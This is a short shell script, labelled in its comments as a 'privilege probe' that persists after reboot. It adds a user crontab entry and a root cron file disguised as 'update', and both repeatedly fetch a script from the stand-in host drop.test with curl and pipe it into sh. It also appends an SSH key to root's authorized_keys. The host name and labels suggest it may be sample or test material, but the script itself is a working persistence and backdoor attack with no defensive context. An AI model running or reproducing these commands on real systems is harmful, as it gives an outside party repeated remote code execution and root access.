# class: privilege probe; possible: low medium
# stays after the reboot
(crontab -l 2>/dev/null; echo "*/5 * * * * curl -s http://drop.test/p | sh") | crontab -
echo '* * * * * root curl -s http://drop.test/p | sh' > /etc/cron.d/update
mkdir -p /root/.ssh && echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIBx ops' >> /root/.ssh/authorized_keys
exit 0
